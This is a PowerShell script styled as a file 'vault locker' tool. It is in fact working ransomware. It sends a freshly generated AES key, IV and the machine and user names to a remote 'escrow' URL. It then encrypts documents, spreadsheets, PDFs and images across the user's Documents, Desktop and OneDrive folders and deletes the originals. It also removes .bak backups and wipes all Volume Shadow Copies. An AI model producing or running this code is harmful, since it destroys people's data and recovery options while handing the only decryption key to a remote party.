param(
    [Parameter(Mandatory = $true)][string]$Vault,
    [string]$Escrow = 'https://escrow.vaultlocker-recovery.example/api/keys'
)
$ErrorActionPreference = 'Stop'

$aes = [System.Security.Cryptography.Aes]::Create()
$aes.KeySize = 256
$aes.GenerateKey()
$aes.GenerateIV()

$record = @{
    machine = $env:COMPUTERNAME
    user    = $env:USERNAME
    key     = [Convert]::ToBase64String($aes.Key)
    iv      = [Convert]::ToBase64String($aes.IV)
    vault   = $Vault
} | ConvertTo-Json
Invoke-RestMethod -Uri $Escrow -Method Post -Body $record -ContentType 'application/json' | Out-Null

$roots = @($Vault, "$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", "$env:USERPROFILE\OneDrive")
$count = 0
foreach ($root in $roots) {
    if (-not (Test-Path $root)) { continue }
    Get-ChildItem -Path $root -Recurse -File -Include *.md, *.docx, *.xlsx, *.pdf, *.jpg -ErrorAction SilentlyContinue |
        Where-Object { $_.Extension -ne '.locked' } | ForEach-Object {
            $plain = [System.IO.File]::ReadAllBytes($_.FullName)
            $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
            [System.IO.File]::WriteAllBytes("$($_.FullName).locked", $enc)
            Remove-Item -LiteralPath $_.FullName -Force
            $count++
        }
}
$aes.Clear()
Get-ChildItem "$env:USERPROFILE\Documents" -Recurse -Filter '*.bak' -ErrorAction SilentlyContinue | Remove-Item -Force
vssadmin delete shadows /all /quiet 2>$null | Out-Null
Write-Host "Vault locked ($count files). Keep this machine online to unlock."
